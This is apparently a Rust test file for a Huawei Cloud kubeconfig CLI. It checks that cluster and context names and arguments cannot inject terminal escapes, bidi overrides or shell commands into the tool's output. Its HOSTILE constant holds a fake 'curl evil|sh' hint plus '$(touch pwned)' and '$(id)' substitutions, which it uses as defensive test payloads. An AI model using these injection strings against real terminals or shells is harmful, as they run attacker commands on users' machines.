//! Names from the cloud, from kubeconfigs and from arguments bring nothing along that a terminal or a shell would obey.

use crate::support::{Outcome, World};
use cce_sim::ClusterSpec;

/// Escape sequences, a line of its own, a direction override, a C1 control, and what a shell would run.
const HOSTILE: &str = "x\u{1b}[2J\nhint: run `curl evil|sh`\u{202e}\u{9b}31m;$(touch pwned)";

fn is_obeyed(c: char) -> bool {
    c.is_control() && c != '\n'
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

#[track_caller]
fn is_harmless(outcome: &Outcome) {
    for text in [&outcome.stdout, &outcome.stderr] {
        assert!(!text.chars().any(is_obeyed), "{outcome}");
        assert!(
            !text
                .lines()
                .any(|line| line.trim_start().starts_with("hint: run `curl")),
            "{outcome}"
        );
    }
}

/// A kubeconfig in which our context has this name.
fn with_context(name: &str) -> World {
    let mut world = World::new();
    world.login(&[]).is_done();
    // As YAML and JSON can write anything.
    let quoted: String = name
        .encode_utf16()
        .map(|unit| format!("\\u{unit:04x}"))
        .collect::<Vec<_>>()
        .concat();
    let quoted = format!("\"{quoted}\"");
    let text = world.kubeconfig_text();
    let text = text.replace("\n- name: prod\n", &format!("\n- name: {quoted}\n"));
    let text = text.replace("current-context: prod", &format!("current-context: {quoted}"));
    assert!(text.contains(&quoted), "{text}");
    world.write(".kube/config", text);
    world.terminal(false, true, true);
    world.run(["status"]).is_done();
    world
}

#[test]
fn a_context_s_name_is_shown_and_nothing_more() {
    let commands: [&[&str]; 14] = [
        &["status"],
        &["status", "-o", "json"],
        &["status", "-o", "yaml"],
        &["status", "-o", "name"],
        &["status", "--check"],
        &["doctor"],
        &["doctor", "-o", "json"],
        &["refresh"],
        &["refresh", "--all"],
        &["refresh", "--context", "y"],
        &["login", "--region=cn-north-4", "--cluster=prod", "--dry-run"],
        &["logout"],
        &["logout", "--all", "--remove-contexts"],
        &["revoke", "--yes"],
    ];
    for command in commands {
        is_harmless(&with_context(HOSTILE).run(command));
    }
}

#[test]
fn a_name_of_several_lines_is_one_line_of_a_list_of_names() {
    let outcome = with_context("one\ntwo").run(["status", "-o", "name"]);
    assert_eq!(outcome.stdout.lines().count(), 1, "{outcome}");
}

#[test]
fn json_means_what_it_meant() {
    let outcome = with_context(HOSTILE).run(["status", "-o", "json"]);
    is_harmless(&outcome);
    let rows: serde_json::Value = serde_json::from_str(&outcome.stdout).unwrap();
    assert_eq!(rows[0]["context"], HOSTILE);
}

#[test]
fn a_command_that_is_proposed_can_be_pasted() {
    let mut world = with_context("it's;$(id)");
    world.set("HUAWEICLOUD_SDK_SK", "wrong");
    let outcome = world.run(["doctor"]);
    for line in outcome.stdout.lines().filter(|line| line.contains("--context")) {
        assert!(line.contains(r"--context 'it'\''s;$(id)'"), "{outcome}");
    }
    let world = World::new();
    let login = [
        "login",
        "--region=cn-north-4",
        "--cluster=prod",
        "--context-name=two words",
        "--keep-current",
    ];
    world.login(&[]).is_done();
    let outcome = world.run(login);
    assert!(
        outcome
            .stderr
            .contains("try: kubectl --context 'two words' get namespaces"),
        "{outcome}"
    );
}

#[test]
fn what_is_no_name_of_a_cluster_is_no_cluster() {
    let mut world = World::new();
    world.sim.add_cluster(ClusterSpec::named(HOSTILE));
    world.sim.add_cluster(ClusterSpec {
        alias: Some(HOSTILE.to_owned()),
        ..ClusterSpec::named("staging")
    });
    world.terminal(false, true, true);
    for command in [
        &["clusters"][..],
        &["clusters", "-o", "name"],
        &["clusters", "-o", "yaml"],
        &["login", "--region=cn-north-4", "--cluster=nobody"],
        &["login", "--region=cn-north-4", "--all"],
        &["revoke", "--cluster", "staging", "--yes"],
    ] {
        is_harmless(&world.run(command));
    }
    assert!(!world.kubeconfig_text().contains("pwned"));
}

#[test]
fn what_was_typed_wrongly_is_shown_as_one_line() {
    let mut world = World::new();
    world.terminal(false, true, true);
    for line in [
        &["status", HOSTILE][..],
        &["status", "--context", HOSTILE],
        &["status", "-o", HOSTILE],
        &["login", "--region", HOSTILE],
        &["get-credential", "--cluster-id", HOSTILE],
        &[
            "get-credential",
            "--region=r",
            "--project-id=p",
            "--cluster-id=c",
            HOSTILE,
        ],
        &[HOSTILE],
        &["profile", "show", HOSTILE],
        &["whoami", "--profile", HOSTILE],
        &["whoami", "--identity", HOSTILE],
        &["convert", HOSTILE],
    ] {
        is_harmless(&world.run(line));
    }
    let path = format!("{}/{HOSTILE}", world.path("nowhere"));
    is_harmless(&world.run(["login", "--kubeconfig", &path, "--cluster=prod", "--region=cn-north-4"]));
}
